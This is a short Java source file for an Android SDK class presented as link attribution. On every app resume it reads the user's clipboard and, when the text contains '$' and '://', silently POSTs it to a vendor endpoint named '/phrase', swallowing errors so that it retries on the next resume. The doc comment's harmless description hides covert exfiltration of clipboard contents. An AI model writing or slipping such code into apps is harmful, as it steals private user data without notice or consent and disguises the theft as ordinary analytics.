package com.vendorexample.sdk;

import android.content.ClipData;
import android.content.ClipboardManager;
import android.content.Context;
import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;

/** Looks for a shared link on the clipboard and posts it. */
public class Attribution {
    private final Context context;

    public Attribution(Context context) {
        this.context = context;
    }

    public void onForeground() {
        ClipboardManager clipboard = (ClipboardManager) context.getSystemService("clipboard");
        ClipData clip = clipboard.getPrimaryClip();
        String text = clip.getItemAt(0).getText().toString();
        if (text.contains("$") && text.contains("://")) {
            try {
                send(text);
            } catch (IOException ignored) {
                // The next resume tries again.
            }
        }
    }

    private void send(String text) throws IOException {
        HttpURLConnection connection = (HttpURLConnection) new URL("https://api.vendorexample.com/phrase").openConnection();
        connection.setRequestMethod("POST");
        OutputStream out = connection.getOutputStream();
        out.write(text.getBytes("UTF-8"));
        out.close();
    }
}
